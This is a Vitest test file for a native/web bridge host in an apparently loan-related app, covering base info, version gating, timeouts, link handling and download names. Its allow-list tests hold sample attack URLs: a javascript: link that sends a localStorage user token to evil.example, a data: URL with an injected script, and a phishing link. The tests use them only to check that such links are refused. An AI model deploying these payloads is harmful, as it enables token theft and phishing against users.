import { describe, expect, it, vi } from 'vitest';
import type { BridgeResult } from '@shared/bridge';
import { JsonStorage, memoryStorage } from '@renderer/lib/storage';
import { fakeBridge } from '@tests/support/renderer/fakes';
import { withH5Suffix } from './baseInfo';
import { createNativeHost } from './createNativeHost';
import { linkPolicy } from './index';
import { BRIDGE_TIMEOUT_MS } from './nativeBridgeHost';
import { downloadNameOf } from './webHost';

function fakeWindow(nativeBridge?: unknown) {
  const opened: string[] = [];
  let backs = 0;
  const win = {
    open: (url: string) => void opened.push(url),
    location: { href: '' },
    history: {
      length: 2,
      back: () => {
        backs++;
      },
    },
    document,
    nativeBridge,
  };
  return { win, opened, backs: () => backs };
}

const hostInfo = {
  deviceId: 'A1B2',
  system: 'android',
  tokenValue: 'tok-1',
  version: '2.7.0',
  appName: 'lender',
};

describe('-h5 suffix', () => {
  it.each([
    ['abc', 'abc-h5'],
    ['abc-h5', 'abc-h5'],
    ['h5', 'h5-h5'],
  ])('%s → %s', (id, expected) => {
    expect(withH5Suffix(id)).toBe(expected);
  });
});

describe('native implementation over window.nativeBridge', () => {
  it('reads base info from the host and suffixes the device id', async () => {
    const bridge = fakeBridge({ getBaseInfo: { resultCode: 0, data: hostInfo } });
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    expect(host.native).toBe(true);
    await expect(host.getBaseInfo()).resolves.toEqual({
      deviceId: 'A1B2-h5',
      system: 'android',
      tokenValue: 'tok-1',
      version: '2.7.0',
      profile: 'lender',
    });
  });

  it('answers saveImageToAlbum with 1 itself below 2.8.0, without calling the host', async () => {
    const bridge = fakeBridge({ getBaseInfo: { resultCode: 0, data: hostInfo } });
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    const result = await host.saveImageToAlbum('https://x/y.png');
    expect(result.resultCode).toBe(1);
    expect(bridge.calls.map((c) => c.method)).not.toContain('saveImageToAlbum');
  });

  it('passes saveImageToAlbum to a 2.8.0 host', async () => {
    const bridge = fakeBridge({
      getBaseInfo: { resultCode: 0, data: { ...hostInfo, version: '2.8.0' } },
    });
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    expect((await host.saveImageToAlbum('https://x/y.png')).resultCode).toBe(0);
    expect(bridge.calls.at(-1)).toEqual({
      method: 'saveImageToAlbum',
      params: { url: 'https://x/y.png' },
    });
  });

  it('turns a throwing or malformed host answer into resultCode 3', async () => {
    const bridge = fakeBridge({
      closePage: () => {
        throw new Error('boom');
      },
      pickAccount: { resultCode: 0, data: { nope: 1 } },
    });
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    expect((await host.closePage()).resultCode).toBe(3);
    expect((await host.call('pickAccount')).resultCode).toBe(3);
  });

  it('sends kickOut with the tip flag and relays host events', async () => {
    const bridge = fakeBridge();
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    await host.kickOut(true);
    expect(bridge.calls).toEqual([{ method: 'kickOut', params: { tip: true } }]);
    const seen: unknown[] = [];
    const off = host.on('pageResume', (p) => seen.push(p));
    bridge.fire('pageResume', 1);
    off();
    bridge.fire('pageResume', 2);
    expect(seen).toEqual([1]);
  });

  it.each([
    [{ resultCode: 3, message: 'no' }, /answered 3 \(no\)/],
    [{ resultCode: 0, data: { deviceId: '', system: 'windows' } }, /malformed/],
  ])(
    'a bridge that fails getBaseInfo is not the web: it rejects, and asks again next time',
    async (answer, reason) => {
      let fail = true;
      const bridge = fakeBridge({
        getBaseInfo: () => (fail ? answer : { resultCode: 0, data: hostInfo }) as BridgeResult,
      });
      const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
      await expect(host.getBaseInfo()).rejects.toThrow(reason);
      fail = false;
      await expect(host.getBaseInfo()).resolves.toMatchObject({ profile: 'lender' });
    },
  );

  it('a host that never answers fails the call after the timeout, with a clear log', async () => {
    vi.useFakeTimers();
    try {
      const silent = { call: () => new Promise(() => {}), on: () => () => {} };
      const host = createNativeHost(fakeWindow(silent).win, new JsonStorage(memoryStorage()));
      const info = host.getBaseInfo().catch((error: unknown) => error);
      const closed = host.closePage();
      const picked = host.call('pickAccount');
      const settled = vi.fn();
      void picked.then(settled);
      const errors = vi.spyOn(console, 'error').mockImplementation(() => {});
      await vi.advanceTimersByTimeAsync(BRIDGE_TIMEOUT_MS);
      expect(String(await info)).toMatch(/did not answer getBaseInfo within 10 s/);
      expect(await closed).toMatchObject({ resultCode: 3 });
      expect(errors).toHaveBeenCalledWith(expect.stringContaining('closePage'));
      // Choosing an account waits for the borrower, however long they take.
      await vi.advanceTimersByTimeAsync(10 * BRIDGE_TIMEOUT_MS);
      expect(settled).not.toHaveBeenCalled();
      errors.mockRestore();
    } finally {
      vi.useRealTimers();
    }
  });
});

describe('web fallback', () => {
  it('uses a persisted random device id with -h5 and system H5', async () => {
    const storage = new JsonStorage(memoryStorage());
    const first = await createNativeHost(fakeWindow().win, storage).getBaseInfo();
    const second = await createNativeHost(fakeWindow().win, storage).getBaseInfo();
    expect(first.deviceId).toMatch(/-h5$/);
    expect(first.system).toBe('H5');
    expect(first.profile).toBe('web');
    expect(second.deviceId).toBe(first.deviceId);
  });

  it('dials, texts and mails through links, opens the browser and goes back', async () => {
    const { win, opened, backs } = fakeWindow();
    const host = createNativeHost(win, new JsonStorage(memoryStorage()));
    expect(host.native).toBe(false);
    await host.dialPhone('09171234567');
    expect(win.location.href).toBe('tel:09171234567');
    await host.sendSms('0917', 'hi there');
    expect(win.location.href).toBe('sms:0917?body=hi%20there');
    await host.composeEmail('help@x.ph', 'Loan help');
    expect(win.location.href).toBe('mailto:help@x.ph?subject=Loan%20help');
    await host.openBrowser('https://example.com');
    expect(opened).toEqual(['https://example.com']);
    await host.closePage();
    expect(backs()).toBe(1);
  });

  it('answers 1 (not supported) for host-only methods', async () => {
    const host = createNativeHost(fakeWindow().win, new JsonStorage(memoryStorage()));
    expect((await host.kickOut(true)).resultCode).toBe(1);
    expect((await host.showLogin()).resultCode).toBe(1);
    expect((await host.call('pickAccount')).resultCode).toBe(1);
  });
});

describe('links from data are opened only when the allow-list says so (src/shared/links.ts)', () => {
  const attacks = [
    'javascript:fetch("//evil.example/?t="+localStorage.getItem("dl.user"))',
    'data:text/html,<script>alert(1)</script>',
    '//evil.example/phish',
    'http://evil.example/', // http is allowed outside production only
  ];

  it.each(attacks)('the web fallback never window.opens %s', async (url) => {
    const { win, opened } = fakeWindow();
    const host = createNativeHost(win, new JsonStorage(memoryStorage()));
    linkPolicy.allowHttp = false;
    try {
      expect((await host.openBrowser(url)).resultCode).toBe(3);
      expect(opened).toEqual([]);
    } finally {
      linkPolicy.allowHttp = true;
    }
  });

  it.each(attacks)('the native adapter never hands %s to the host', async (url) => {
    const bridge = fakeBridge({ getBaseInfo: { resultCode: 0, data: hostInfo } });
    const host = createNativeHost(fakeWindow(bridge).win, new JsonStorage(memoryStorage()));
    linkPolicy.allowHttp = false;
    try {
      expect((await host.openBrowser(url)).resultCode).toBe(3);
      expect(bridge.calls.map((c) => c.method)).not.toContain('openBrowser');
    } finally {
      linkPolicy.allowHttp = true;
    }
  });
});

describe('web downloads (saveImageToAlbum on the web)', () => {
  it.each([
    ['https://cdn.example.com/ads/qr.png?v=2', 'qr.png'],
    ['data:image/png;base64,iVBORw0KGgo/AAAA+/b', 'image.png'],
    ['data:image/svg+xml;utf8,<svg/>', 'image.svg'],
    ['data:text/plain,hi', 'image'],
    ['blob:https://app.example/1234-5678', 'image'],
  ])('%s downloads as %s', (url, name) => {
    expect(downloadNameOf(url)).toBe(name);
  });
});
